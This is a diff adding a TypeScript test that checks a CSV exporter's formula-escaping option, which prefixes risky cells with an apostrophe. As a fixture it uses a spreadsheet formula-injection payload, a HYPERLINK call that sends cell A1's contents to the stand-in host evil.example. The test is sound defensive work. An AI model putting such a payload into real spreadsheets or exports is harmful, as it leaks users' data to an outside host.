@@ -216,6 +216,33 @@ test("CSV round trip through csv-parse: the same values, commas, quotes, line br
   assert.deepEqual(parse(bytes.toString("utf8"), { columns: true, bom: true }), rows);
 });
 
+test("CSV with escapeFormulas: a cell a spreadsheet would run as a formula starts with ', every other cell is as it was", async (t) => {
+  const hostile = approvedItem("003_formula.txt", {
+    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    publisher: "+Plus Daily",
+    authors: ["@handle"],
+    body: ["-5 degrees overnight", "=SUM(A1:A2) inside the cell, not at its start"],
+    related: ["Safe headline"],
+  });
+  const plain = await run(t, "csv", {}, [...trickyItems(), hostile]);
+  const escaped = await run(t, "csv", { escapeFormulas: true }, [...trickyItems(), hostile]);
+  const read = (path: string): Record<string, string>[] => parse(readFileSync(path, "utf8"), { columns: true });
+  const before = read(plain.summary.path);
+  const after = read(escaped.summary.path);
+  assert.equal(after.length, before.length);
+  for (const [i, row] of after.entries()) {
+    for (const [column, value] of Object.entries(row)) {
+      const original = before[i]![column]!;
+      const risky = /^[=+\-@\t\r]/.test(original);
+      assert.equal(value, risky ? `'${original}` : original, `${column} of row ${i}`);
+    }
+  }
+  const row = after.find((r) => r["provenance.file"] === "003_formula.txt")!;
+  assert.equal(row.title, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+  assert.equal(row.publisher, "'+Plus Daily");
+  assert.equal(row.body, "'-5 degrees overnight\n\n=SUM(A1:A2) inside the cell, not at its start");
+});
+
 test("Markdown folder: one file per record, safe names, front matter with the fields, the body escaped and exact", async (t) => {
   const { summary, items, out } = await run(t, "markdown");
   assert.equal(summary.path, join(out, "articles"));
